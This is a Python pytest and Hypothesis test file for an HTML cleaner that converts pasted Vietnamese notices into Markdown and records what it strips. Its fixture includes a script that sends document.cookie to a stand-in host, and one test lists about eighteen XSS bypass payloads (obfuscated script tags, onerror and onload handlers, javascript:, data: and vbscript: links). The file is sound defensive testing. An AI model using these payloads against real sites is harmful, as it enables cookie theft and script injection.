"""Pasted HTML: nothing runs, nothing shows as a tag, the words survive and staff are told."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.markdown import to_html, to_plain
from publisher.importing.cleaning import clean_body, clean_line

PASTED = """<div style="position:absolute"><p>Mời bà con dự <strong>hội thi nấu ăn</strong>.</p></div>

<script>location = "https://xau.example/" + document.cookie</script>

Số đội < hay > 6 đều thi; điểm > 8 được khen.

- Tải [thể lệ](javascript:alert('the-le')) <img src=x onerror="alert('chào')">
- Xem <a href="https://xa.example/hoi-thi" onmouseover="alert(1)">trang hội thi</a>

<iframe src="https://qc.example"></iframe>
<!-- nhớ xóa dòng này -->
<style>p { color: red }</style>

&lt;p&gt;Liên hệ: Hội Phụ nữ &amp;amp; Đoàn &amp;copy; xã&lt;/p&gt;
"""


@pytest.fixture
def pasted():
    return clean_body(PASTED, first_line=10)


@pytest.mark.parametrize("render", [to_html, to_plain])
def test_nothing_that_runs_or_hides_reaches_a_page_or_a_post(pasted, render):
    shown = render(pasted.text).lower()

    for evil in (
        "script",
        "onerror",
        "onmouseover",
        "iframe",
        "style",
        "cookie",
        "nhớ xóa",
        "position",
        "<img",
    ):
        assert evil not in shown


@pytest.mark.parametrize("render", [to_html, to_plain])
def test_the_words_around_survive(pasted, render):
    shown = render(pasted.text)

    for words in ("Mời bà con dự", "hội thi nấu ăn", "thể lệ", "trang hội thi", "Hội Phụ nữ", "© xã"):
        assert words in shown
    assert "https://xa.example/hoi-thi" in shown


def test_signs_of_comparison_stay(pasted):
    assert "Số đội < hay > 6 đều thi; điểm > 8 được khen." in to_plain(pasted.text)


def test_what_was_removed_is_told_with_its_line(pasted):
    told = [(removal.line, removal.what) for removal in pasted.removed]

    assert (10, "style=“position:absolute” trong <div>") in told
    assert (12, '<script> (“location = "https://xau.example/" + document.cooki…”)') in told
    assert (16, "địa chỉ không an toàn “javascript:alert('the-le')”") in told
    assert (16, "onerror=“alert('chào')” trong <img>") in told
    assert (17, "onmouseover=“alert(1)” trong <a>") in told
    assert (19, "<iframe>") in told
    assert (20, "chú thích ẩn (“nhớ xóa dòng này”)") in told
    assert (21, "<style> (“p { color: red }”)") in told


@pytest.mark.parametrize(
    ("pasted", "markdown"),
    [
        ("<b>đậm</b> và <i>nghiêng</i>", "**đậm** và *nghiêng*"),
        ("<strong> đậm </strong>nữa", " **đậm** nữa"),
        ("<b>Lưu ý:</b>bà con", "**Lưu ý:** bà con"),
        ("<b></b>trống", "trống"),
        ('<a href="https://a.example/?x=1&amp;y=(2)">đây</a>', "[đây](https://a.example/?x=1&y=%282%29)"),
        ('<a href="https://a.example/">https://a.example/</a>', "<https://a.example/>"),
        ('<a href="mailto:xa@a.example">thư</a>', "[thư](mailto:xa@a.example)"),
        ('<a href="JaVaScRiPt:x">bấm</a> <a href="/trang">trang</a>', "bấm trang"),
        ("<h2>Đề mục</h2><p>Một<br>hai</p>", "## Đề mục\n\nMột\\\nhai"),
        ("<ul>\n  <li>một</li>\n  <li>hai</li>\n</ul>", "- một\n- hai"),
        ("<ol><li>một<ul><li>a</li></ul></li><li>hai</ol>", "1. một\n   - a\n2. hai"),
        (
            "<table><tr><th>Thôn<th>Giờ</tr><tr><td>A</td><td>7</td></tr></table>",
            "| Thôn | Giờ |\n|---|---|\n| A | 7 |",
        ),
        ("<p>\n      thụt vào\n      hai dòng\n</p>", "thụt vào\nhai dòng"),
        ("<p class=MsoNormal><o:p></o:p>Từ <span lang=VI>Word</span></p>", "Từ Word"),
        ("<![if !mso]>một<![endif]>", "một"),
        ("5&nbsp;kg &ndash; 7&nbsp;kg &lt; 10", "5 kg – 7 kg < 10"),
        ("https://a.example/?a=1&copy=2", "https://a.example/?a=1&copy=2"),
        ("&amp;lt;b&amp;gt;hai lần&amp;lt;/b&amp;gt;", "**hai lần**"),
    ],
)
def test_html_turns_into_the_same_in_markdown(pasted, markdown):
    assert clean_body(pasted).text == markdown


@pytest.mark.parametrize(
    "text",
    [
        "số người < hay > 10",
        "nếu a<b và c>d thì thôi",
        "x <y và y> z",
        "điền <Họ và tên> vào ô",
        "2 <3, 5> 4, <- mũi tên ->",
        "**đậm** *nghiêng* [trang](https://a.example/x_(y)) <https://a.example>",
        "> trích\n\n    mã\n\n1. một\n   - hai",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "khóa học JavaScript: cơ bản",
        "[ghi chú](theo: báo cáo năm 2026)",
        "cuối dòng  \nngắt dòng",
    ],
)
def test_markdown_and_plain_words_pass_untouched(text):
    cleaned = clean_body(text)

    assert cleaned.text == text
    assert (cleaned.removed, cleaned.tags) == ((), ())


@pytest.mark.parametrize(
    "attack",
    [
        "<scr<script>x</script>ipt>alert(1)</scr<script></script>ipt>",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;amp;lt;script&amp;amp;gt;alert(1)&amp;amp;lt;/script&amp;amp;gt;",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror=alert(1)",
        '<img src="x" onerror="document.write(\'<b>alert(1)</b>\')">',
        "<svg onload=alert(1)></svg>",
        "<x-y onclick=alert(1)>",
        "<SCRIPT\n>alert(1)</SCRIPT\n>",
        "[x](java&#115;cript:alert(1))",
        "[x]( javascript:alert(1) 'tên')",
        "[x](<javascript:alert(1)>)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](data:text/html,alert(1))",
        "[[x]](vbscript:alert(1))",
        '<a href="java\nscript:alert(1)">x</a>',
        "<!--><script>alert(1)</script>-->",
    ],
)
def test_tricks_do_not_get_through(attack):
    cleaned = clean_body(f"Trước {attack} sau")
    shown = to_html(cleaned.text)

    assert "alert" not in shown
    assert "script" not in shown.lower()
    assert shown.count("Trước") == 1
    assert "sau" in shown


@pytest.mark.parametrize("opening", ["<script>", "<!-- ghi chú", "<style>", "<iframe src=x>"])
def test_what_is_never_closed_is_told_and_hides_no_words(opening):
    cleaned = clean_body(f"Một\n{opening} hai\nba", first_line=5)

    assert [left.line for left in cleaned.unclosed] == [6]
    assert "ba" in cleaned.text


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Đăng ký <b>sáng kiến</b> & hỗ trợ", "Đăng ký sáng kiến & hỗ trợ"),
        ("Một<br>hai", "Một hai"),
        ("Giá &lt; 10.000 đồng", "Giá < 10.000 đồng"),
        ("Tin <script>alert(1)</script>mới", "Tin mới"),
    ],
)
def test_a_title_keeps_its_words_and_no_markup(written, title):
    assert clean_line(written).text == title


TAGS = "<b> </b> <p> </p> <ul> <li> </ul> <table> <tr> <td> </table> <br> <script> </script> <!-- --> </a>"
SIGNS = "< > &lt; &amp; ** * [ ]( ) javascript:x chữ - | \\ `"
HARD = ("\n", " ", "    ", "số 1", "- ", '<a href="https://a.example">', "<img onerror=x>")
PIECES = st.sampled_from((*TAGS.split(), *SIGNS.split(), *HARD))
PAGE_TAGS = "p br strong em ul ol li a h2 h3 table thead tbody tr th td blockquote code pre hr del"


@given(pieces=st.lists(PIECES, max_size=25))
def test_no_mixture_leaves_a_tag_a_handler_or_a_script_address_in_the_page(pieces):
    shown = to_html(clean_body("".join(pieces)).text)

    tags = {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)", shown)}
    assert tags <= set(PAGE_TAGS.split())
    assert not re.search(r"<[^>]*(onerror|javascript:)", shown)


@given(
    words=st.lists(
        st.sampled_from(["bà con", "mừng", "vụ điều", "12/12", "Đồng Nai"]), min_size=1, max_size=9
    ),
    data=st.data(),
)
def test_words_between_any_closed_tags_survive_in_order(words, data):
    names = st.sampled_from(["b", "i", "p", "div", "li", "span", "h3", "td", "a", "blockquote", "font"])
    pasted = "".join(f"<{name}>{word}</{name}>" for word in words for name in [data.draw(names)])

    shown = to_plain(clean_body(pasted).text)

    assert "".join(re.findall(r"\w+", shown)).count("".join(re.findall(r"\w+", "".join(words)))) == 1


@given(pieces=st.lists(PIECES, max_size=12))
def test_what_is_clean_stays_as_it_is(pieces):
    once = clean_body("".join(pieces)).text

    assert clean_body(once).text == once
